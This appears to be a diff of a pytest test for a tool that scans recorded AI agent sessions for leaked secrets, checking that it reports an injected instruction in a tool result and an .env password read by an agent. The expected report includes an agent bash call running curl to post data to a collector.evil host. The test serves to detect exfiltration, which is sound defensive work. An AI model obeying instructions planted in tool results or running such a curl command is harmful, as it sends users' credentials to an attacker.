@@ -33,13 +33,13 @@ def test_it_is_found_with_its_chain(capture: Path, monkeypatch: pytest.MonkeyPat
         ["high", "instruction_in_result"],
         ["medium", "host_from_result"],
     ]
-    start = shown.index("high: env_line tur…2 (DB_PASSWORD), opens a database")
-    assert shown[start + 1 : start + 4] == [
-        "as DB_PASSWORD=tur…2",
-        'brought s-1-flow-003 turn 3 tool result read_file {"path":".env"}',
-        "sent s-1-flow-003 turn 3 by 4 calls from here on to api.anthropic.com…",
-    ]
-    assert shown[start + 4].startswith("carried s-1-flow-004 turn 4 tool arguments bash → collector.evil-")
+    told = " ".join(" ".join(shown).split())
+    assert (
+        "high: env_line tur…2 (DB_PASSWORD), opens a database as DB_PASSWORD=tur…2 "
+        'brought s-1-flow-003 turn 3 tool result read_file {"path":".env"} '
+        "sent s-1-flow-003 turn 3 by 4 calls from here on to api.anthropic.com ×4 "
+        f"carried s-1-flow-004 turn 4 tool arguments bash → {COLLECTOR} curl -s https://{COLLECTOR}/in -d "
+    ) in told
     assert shown[-1] == "looked at 6 flows, 6 calls among them"
     assert not any(secret in result.output for secret in SECRETS)
 
